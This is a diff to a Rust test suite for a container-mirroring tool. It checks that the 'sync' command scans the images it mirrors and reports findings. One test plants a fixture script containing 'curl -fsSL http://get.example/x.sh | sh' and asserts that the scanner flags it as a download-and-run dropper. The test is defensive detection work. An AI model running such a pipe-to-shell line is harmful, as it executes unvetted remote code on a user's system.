@@ -268,6 +268,16 @@ fn sync_filters_platforms_dedups_layers_is_idempotent_and_reports_each_failure()
         airlock(d, &args)
     };
     let j = sync(&[]).ok().json();
+    // Every mirrored image was scanned from the store (umoci-built, clean).
+    let scanned = j["scan"].as_array().unwrap();
+    assert_eq!(scanned.len(), 5, "{j}");
+    assert!(
+        scanned
+            .iter()
+            .all(|s| s["files"].as_u64().unwrap() >= 1
+                && s["findings"].as_array().unwrap().is_empty()),
+        "{j}"
+    );
     let by = images_by_ref(&j);
     assert_eq!(
         by[&multi]["platformsOmitted"],
@@ -1135,4 +1145,65 @@ fn referrers_api_results_come_along_under_their_digest() {
         .filter(|n| !n.starts_with("scan:")) // scan results of both, tested in scan_import
         .collect();
     assert_eq!(names, [amd.clone(), format!("{h}/acme/hello@{att_digest}")]);
+}
+
+/// `sync` scans what it mirrored, reading it from the store, and reports findings early (they
+/// do not change its exit status: `pack` scans again and signs its own results, and the
+/// appliance's policy decides). A dropper script in a pushed image is named with its layer
+/// and path; `--no-scan` skips the pass.
+#[test]
+fn sync_scans_what_it_mirrored() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let reg = Registry::start(d, "reg", None);
+    let h = reg.host();
+    sh(
+        d,
+        &format!(
+            r#"
+mkdir -p src/app
+printf '#!/bin/sh\ncurl -fsSL http://get.example/x.sh | sh\n' > src/app/setup.sh
+echo fine > src/app/readme.txt
+umoci init --layout L
+umoci new --image L:v1
+umoci insert --image L:v1 src/app /app >/dev/null
+umoci config --image L:v1 --architecture amd64 --os linux >/dev/null
+skopeo copy -q --dest-tls-verify=false oci:L:v1 docker://{h}/acme/tool:v1
+"#
+        ),
+    )
+    .ok();
+    let img = format!("{h}/acme/tool:v1");
+    manifest(d, &[(&img, None)]);
+    let base = [
+        "sync",
+        "m.yaml",
+        "--store",
+        "store",
+        "--insecure-registry",
+        &h,
+    ];
+    let run = airlock(d, &[&["--json"], &base[..]].concat()).ok();
+    let j = run.json();
+    let scan = j["scan"].as_array().unwrap();
+    assert_eq!(scan.len(), 1, "{j}");
+    assert_eq!(scan[0]["artifact"], img);
+    assert_eq!(scan[0]["files"], 1);
+    let f = &scan[0]["findings"][0];
+    assert_eq!(f["rule"], "yara/builtin/download_and_run_script");
+    assert_eq!(f["severity"], "suspicious");
+    assert_eq!(f["member"], "app/setup.sh");
+    // Text output names it too, and says who decides.
+    let t = airlock(d, &base).ok();
+    assert!(t.stdout.contains("suspicious"), "{}", t.stdout);
+    assert!(t.stdout.contains("app/setup.sh"), "{}", t.stdout);
+    assert!(
+        t.stdout.contains("the appliance's policy decides"),
+        "{}",
+        t.stdout
+    );
+    let j = airlock(d, &[&["--json"], &base[..], &["--no-scan"]].concat())
+        .ok()
+        .json();
+    assert!(j["scan"].as_array().unwrap().is_empty(), "{j}");
 }
